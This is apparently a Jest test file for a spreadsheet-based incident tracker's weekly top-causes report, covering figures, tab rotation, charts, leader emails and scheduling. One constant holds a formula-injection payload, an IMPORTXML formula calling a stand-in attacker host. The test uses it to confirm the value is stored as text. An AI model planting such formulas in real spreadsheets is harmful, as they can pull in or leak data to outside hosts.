/**
 * The weekly top-causes tab through the built bundle, on the emulator's virtual clock: cases
 * registered and moved through the API over two weeks (2026-W47 and W48, Moscow), then the weekly
 * report run on Monday 30 November ("Run now", as a lead). The tab's cells are the figures counted
 * by hand below; a second run rewrites the same tab; thirteen weeks of runs keep twelve tabs; the
 * tab has a bar chart of the causes; the leaders get one summary; no cell holds a formula.
 */
import type { Emulator } from '../../emulator/runtime';
import { DAILY_RECIPIENT_QUOTA } from '../../emulator/services/mail';
import type { CaseView } from '../../src/server/api';
import { AGENT, asPerson, LEAD, readGeneratedTab, registrationInput, setUpWorkbook } from '../support/workbook';

const STOCK_OWNER = 'stock@example.com';
const LOGISTICS_OWNER = 'logistics@example.com';
const COO = 'coo@example.com';
const CEO = 'CEO@example.com';
const DEFECT = 'Производственный брак';
const PICKING = 'Ошибка комплектации на складе';
const TRANSIT = 'Повреждение при перевозке';
const TAB = 'Топ причин 2026-W48';
/** A prevention text that a sheet would take for a formula if it were written as typed. */
const INJECTION = '=IMPORTXML("https://evil.example/x", "//a")';

const msk = (local: string) => Date.parse(`${local}+03:00`);
const yes = () => ({ button: 'YES' });

/** The workbook of setUpWorkbook, with owners for the warehouse and logistics, and a COO and CEO. */
function workbook(): Emulator {
  // Without the schedule (setUpWorkbook's default): this test runs the report by hand, at the
  // moments it chooses.
  const emulator = setUpWorkbook({ now: new Date(msk('2026-11-16T09:00')) });
  const settings = emulator.scriptRun<
    Record<string, unknown> & {
      team: unknown[];
      departments: Array<{ name: string; owners: string[] }>;
      escalation: { coo: string; ceo: string };
    }
  >('apiGetSettings', [], { user: LEAD });
  settings.team.push(
    { email: STOCK_OWNER, name: 'Сергей Склад', role: 'owner', team: '' },
    { email: LOGISTICS_OWNER, name: 'Лариса Логистика', role: 'owner', team: '' },
    // The COO reads email in English; the CEO is not on the team: the workbook's language.
    { email: COO, name: 'Mark COO', role: 'viewer', team: '', language: 'en' },
  );
  settings.departments.find((d) => d.name === 'Склад')!.owners = [STOCK_OWNER];
  settings.departments.find((d) => d.name === 'Логистика')!.owners = [LOGISTICS_OWNER];
  settings.escalation = { coo: COO, ceo: CEO };
  emulator.scriptRun('apiSaveSettings', [settings], { user: LEAD });
  return emulator;
}

/** Acts on cases at Moscow wall times, in order. */
function actor(emulator: Emulator) {
  const versions = new Map<string, number>();
  const keep = (c: CaseView) => (versions.set(c.id, c.version), c.id);
  const at = (local: string) => emulator.advanceTo(msk(local));
  const run = (fn: string, args: unknown[], user = AGENT) => keep(emulator.scriptRun<CaseView>(fn, args, { user }));
  return {
    register: (local: string, fields: Record<string, unknown>) => {
      at(local);
      return run('apiRegisterCase', [registrationInput(fields)]);
    },
    answer: (local: string, id: string) => {
      at(local);
      run('apiRecordFirstResponse', [id, { version: versions.get(id) }]);
    },
    step: (local: string, id: string, body: Record<string, unknown>, user = AGENT) => {
      at(local);
      run('apiTransition', [id, { ...body, version: versions.get(id) }], user);
    },
  };
}

/** Two weeks of cases; the figures they make are counted by hand in the tests. */
function twoWeeks(): Emulator {
  const emulator = workbook();
  const { register, answer, step } = actor(emulator);
  const resolve = { to: 'resolved', resolution: 'Исправлено' };
  const close = (rootCause: string, prevention = '') => ({ to: 'closed', rootCause, prevention });

  // 2026-W47. p1 (warehouse) and p2 (logistics) closed; p3 resolved, and reopened in W48.
  const p1 = register('2026-11-16T10:00', { criticality: 'B', ownerDept: 'Склад' });
  answer('2026-11-16T10:30', p1);
  step('2026-11-16T10:30', p1, { to: 'in_progress' });
  step('2026-11-16T12:00', p1, resolve);
  step('2026-11-16T12:00', p1, close(PICKING, 'Двойная проверка комплекта'));
  const p2 = register('2026-11-17T10:00', { criticality: 'C', ownerDept: 'Логистика' });
  answer('2026-11-17T10:00', p2);
  step('2026-11-17T10:00', p2, { to: 'in_progress' });
  step('2026-11-17T12:00', p2, resolve);
  step('2026-11-17T12:00', p2, close(TRANSIT));
  const p3 = register('2026-11-18T10:00', { criticality: 'B', ownerDept: 'Производство' });
  answer('2026-11-18T10:00', p3);
  step('2026-11-18T10:00', p3, { to: 'in_progress' });
  step('2026-11-18T12:00', p3, resolve);

  // 2026-W48.
  // c1 A production: answered in 20 min (due 10:30); resolved 10:00→14:00 = 4 h (due 18:00).
  const c1 = register('2026-11-23T10:00', { criticality: 'A', ownerDept: 'Производство' });
  answer('2026-11-23T10:20', c1);
  step('2026-11-23T10:20', c1, { to: 'in_progress' });
  step('2026-11-23T14:00', c1, resolve);
  step('2026-11-23T15:00', c1, close(DEFECT, 'Проверка кромки'));
  // c2 A warehouse: answered at 11:00 (due 10:30: late); resolved Wed 10:00 = Tue 660 + Wed 60 min
  // = 12 h, due Tue 18:00: late.
  const c2 = register('2026-11-24T10:00', { criticality: 'A', ownerDept: 'Склад' });
  answer('2026-11-24T11:00', c2);
  step('2026-11-24T11:00', c2, { to: 'in_progress' });
  step('2026-11-25T10:00', c2, resolve);
  // c3 B production, past client service: answered in time; due Fri 10:00 (Wed 660 + Thu 720 + Fri
  // 60): open and overdue on Monday 30.
  const c3 = register('2026-11-25T10:00', { criticality: 'B', ownerDept: 'Производство', bypass: true });
  answer('2026-11-25T10:30', c3);
  step('2026-11-25T10:30', c3, { to: 'in_progress' });
  step('2026-11-25T11:00', c2, close(PICKING, INJECTION));
  // c4 C logistics: never answered (due Thu 18:00); resolution due Sun 18:00: overdue on Monday.
  register('2026-11-26T10:00', { criticality: 'C', ownerDept: 'Логистика' });
  // p3 reopened by the lead: resolution due Sat 13:00 (Thu 540 + Fri 720 + Sat 180): overdue.
  step('2026-11-26T12:00', p3, { to: 'reopened', note: 'Клиент вернулся' }, LEAD);
  // c6 B logistics: answered; waits for the client 11:00–13:00; resolved 10:00→15:00 = 300 − 120
  // min = 3 h, on time.
  const c6 = register('2026-11-27T10:00', { criticality: 'B', ownerDept: 'Логистика' });
  answer('2026-11-27T10:10', c6);
  step('2026-11-27T10:10', c6, { to: 'in_progress' });
  step('2026-11-27T11:00', c6, { to: 'waiting_client' });
  step('2026-11-27T13:00', c6, { to: 'in_progress' });
  step('2026-11-27T15:00', c6, resolve);
  step('2026-11-27T16:00', c6, close(DEFECT, 'Проверка кромки'));
  // c7 C warehouse, past client service: registered Sunday 17:00, first response due Monday 16:00.
  register('2026-11-29T17:00', { criticality: 'C', ownerDept: 'Склад', bypass: true });

  emulator.advanceTo(msk('2026-11-30T10:00'));
  return emulator;
}

function runWeekly(emulator: Emulator) {
  return emulator.run('runWeekly', [], { user: LEAD, respond: yes });
}

const tab = (emulator: Emulator, name = TAB) => readGeneratedTab(emulator, name);

function sheetNames(emulator: Emulator): string[] {
  return asPerson(emulator, (ss) => ss.getSheets().map((s) => s.getName()));
}

/** Numbers to 4 decimals, so 2/3 reads as 0.6667. */
const rounded = (rows: unknown[][]) =>
  rows.map((row) => row.map((v) => (typeof v === 'number' ? Math.round(v * 10_000) / 10_000 : v)));

describe('the weekly top-causes tab, through the built bundle', () => {
  let emulator: Emulator;
  let calls: Record<string, number>;
  beforeAll(() => {
    emulator = twoWeeks();
    calls = runWeekly(emulator).meter.calls;
  });

  test('2026-W48 is written with the figures counted by hand', () => {
    const written = tab(emulator)!;
    const v = rounded(written.values);
    expect(v[0]![0]).toBe('Топ причин 2026-W48: 23.11.2026 – 29.11.2026');
    expect(String(v[1]![0])).toContain('30.11.2026 10:00');
    // Closed in W48: c1 and c6 defect, c2 picking (3); in W47: p1 picking, p2 transit.
    expect(v.slice(4, 8).map((r) => r.slice(0, 5))).toEqual([
      ['Причина', 'Кейсов', 'Доля', 'Неделей раньше', 'Изменение'],
      [DEFECT, 2, 0.6667, 0, 2],
      [PICKING, 1, 0.3333, 1, 0],
      [TRANSIT, 0, 0, 1, -1],
    ]);
    // Registered in W48 / open now / overdue now / resolved in W48 / median h / within target.
    expect(v.slice(10, 15)).toEqual([
      ['Отдел', 'Новых', 'Открыто', 'Просрочено', 'Решено', 'Медиана, раб. ч', 'В срок'],
      ['Производство', 2, 2, 2, 1, 4, 1], // c1 c3; c3 p3 open, both overdue; c1 4 h on time
      ['Склад', 2, 1, 0, 1, 12, 0], // c2 c7; c7 open, not yet due; c2 12 h late
      ['Логистика', 2, 1, 1, 1, 3, 1], // c4 c6; c4 open and overdue; c6 3 h on time
      ['Узкое место: Производство — вне срока 2 (решено с опозданием 0, просрочено сейчас 2).', '', '', '', '', '', ''],
    ]);
    expect(v.slice(17, 20).map((r) => r.slice(0, 3))).toEqual([
      ['Причина', 'Кейсов', 'Мера'],
      [DEFECT, 2, 'Проверка кромки'], // c1, c6
      [PICKING, 1, INJECTION], // c2: text, not a formula
    ]);
    expect(v.slice(22, 40).map((r) => r.slice(0, 3))).toEqual([
      ['Показатель', 'Значение', 'Кейсов в расчёте'],
      ['Первый ответ в срок', 0.6, 5], // c1 c3 c6 of c1 c2 c3 c4 c6
      ['Без первого ответа, срок ещё не наступил', 1, ''], // c7
      ['Решение A: медиана, раб. ч', 8, 2], // c1 4 h, c2 12 h
      ['Решение A: 90-й перцентиль, раб. ч', 12, 2],
      ['Решение A: в срок', 0.5, 2],
      ['Решение B: медиана, раб. ч', 3, 1], // c6
      ['Решение B: 90-й перцентиль, раб. ч', 3, 1],
      ['Решение B: в срок', 1, 1],
      ['Решение C: медиана, раб. ч', 'нет данных', 0], // no C case resolved
      ['Решение C: 90-й перцентиль, раб. ч', 'нет данных', 0],
      ['Решение C: в срок', 'нет данных', 0],
      ['Доля переоткрытых', 0.25, 4], // p3 of c1 c2 c6 p3
      ['Доля обещаний мимо КС', 0.3333, 6], // c3 c7 of six registered
      ['CSAT (1–5), среднее', 'нет данных', 0], // nobody gave a score at closing
      ['NPS (−100…100)', 'нет данных', 0],
      // c1 c2 c6 resolved, each by its department's owner: none kept by client service.
      ['Решено КС без передачи в отдел', 0, 3],
      ['Инцидентов на 100 заказов', 'нет числа заказов', 6], // the Orders tab is empty
    ]);
    // Percentages and changes read as such (in the Russian locale: a decimal comma).
    expect(written.display[23]!.slice(1, 3)).toEqual(['60,0%', '5']);
    expect(written.display[5]!.slice(2, 5)).toEqual(['66,7%', '0', '+2']);
  });

  test('the tab is one block of values, a range list per style, two width runs, one chart, a mail per language', () => {
    expect(calls).toMatchObject({
      'Sheet.getRangeList': 5, // bold, header shading, percent, hours, change
      'Sheet.setColumnWidths': 2,
      'Sheet.insertChart': 1,
      'MailApp.sendEmail': 2, // one per language
    });
  });

  test('values, not formulas; a bar chart of the causes that occurred', () => {
    const written = tab(emulator)!;
    expect(written.formulas.flat().filter(Boolean)).toEqual([]);
    expect(written.charts).toEqual([{ type: 'BAR', ranges: ['A5:A7', 'B5:B7'], title: TAB }]);
  });

  test('the leaders get the summary in their language: top causes, KPIs, the bottleneck and a link to the tab', () => {
    const mails = emulator.state.mail.sent.filter((m) => /2026-W48/.test(m.subject));
    expect(mails.map((m) => [...m.to].sort())).toEqual([[CEO.toLowerCase(), LEAD].sort(), [COO]]);
    const [ru, en] = mails;
    expect(ru!.from).toBe(LEAD);
    expect(ru!.body).toContain(`${DEFECT}: 2 (66,7 %)`);
    expect(ru!.body).toContain('Первый ответ в срок: 60 %');
    expect(ru!.body).toContain('Решение A: медиана 8 раб. ч, в срок 50 %');
    expect(ru!.body).toContain('Решение C: нет данных');
    expect(ru!.body).toContain('Узкое место: Производство');
    expect(en!.subject).toBe('Arbiter: top causes 2026-W48 (2026-11-23 – 2026-11-29)');
    expect(en!.body).toContain('Resolution A: median 8 business h, 50% within target');
    const gid = asPerson(emulator, (ss) => ss.getSheetByName(TAB)!.getSheetId());
    for (const mail of mails) expect(mail.body).toContain(`/edit#gid=${gid}`);
  });

  test('a second run rewrites the same tab: as many tabs, the same cells; a short quota mails who fits', () => {
    const before = tab(emulator)!;
    const names = sheetNames(emulator);
    // One recipient left of today's quota: the first Russian-speaking leader gets it, nobody else.
    const sent = emulator.state.mail.sent.length;
    emulator.setMailQuotaUsed(LEAD, DAILY_RECIPIENT_QUOTA.consumer - 1);
    runWeekly(emulator);
    expect(sheetNames(emulator)).toEqual(names);
    const after = tab(emulator)!;
    expect(after.values).toEqual(before.values);
    expect(after.charts).toEqual(before.charts);
    expect(emulator.state.mail.sent.slice(sent).map((m) => m.to)).toEqual([[LEAD]]);
    emulator.setMailQuotaUsed(LEAD, 0);
  });

  test('thirteen weeks of runs keep the newest twelve weekly tabs, and every other tab', () => {
    const others = sheetNames(emulator).filter((n) => !n.startsWith('Топ причин'));
    for (let week = 1; week <= 12; week++) {
      emulator.advanceTo(msk('2026-11-30T10:00') + week * 7 * 86_400_000);
      runWeekly(emulator);
    }
    const names = sheetNames(emulator);
    const weekly = names.filter((n) => n.startsWith('Топ причин'));
    expect(weekly).toHaveLength(12);
    expect(weekly).not.toContain(TAB);
    expect(weekly).toContain('Топ причин 2026-W53');
    expect(weekly).toContain('Топ причин 2027-W07');
    expect(names.filter((n) => !n.startsWith('Топ причин'))).toEqual(others);
  });
});

/** The Events rows of scheduled jobs' runs: their notes. */
function jobNotes(emulator: Emulator): string[] {
  const rows = asPerson(emulator, (ss) => ss.getSheetByName('События')!.getDataRange().getValues());
  const header = rows[0]!.map(String);
  const type = header.indexOf('Событие');
  const note = header.indexOf('Комментарий');
  return rows.filter((r) => r[type] === 'job').map((r) => String(r[note]));
}

describe('the weekly report on the schedule', () => {
  test.each([
    ['a bound script', 'bound'],
    ['a published add-on (no active spreadsheet)', 'addon'],
  ] as const)(
    'in %s the hourly trigger writes the tab once, on Monday at the digest hour, and Events keeps it',
    (_where, deployment) => {
      // Tuesday of 2026-W48; setup installs the hourly trigger (the periods already begun count as
      // done: installing sends nothing for them).
      const emulator = setUpWorkbook({ now: new Date(msk('2026-11-24T10:00')), schedule: true, deployment });
      const weeklyTabs = () => sheetNames(emulator).filter((n) => n.startsWith('Топ причин'));
      emulator.advanceTo(msk('2026-11-30T08:30'));
      expect(weeklyTabs()).toEqual([]);
      emulator.advanceTo(msk('2026-11-30T09:30'));
      expect(weeklyTabs()).toEqual([TAB]);
      emulator.advanceTo(msk('2026-12-01T12:00'));
      expect(weeklyTabs()).toEqual([TAB]);
      const weekly = jobNotes(emulator).filter((note) => note.startsWith('Недельный отчёт'));
      expect(weekly).toHaveLength(1);
      expect(weekly[0]).toContain(`вкладка «${TAB}» записана; письмо руководителям: 1 из 1`);
      expect(emulator.state.mail.sent.filter((m) => m.subject.includes('2026-W48')).map((m) => m.to)).toEqual([[LEAD]]);
    },
  );
});
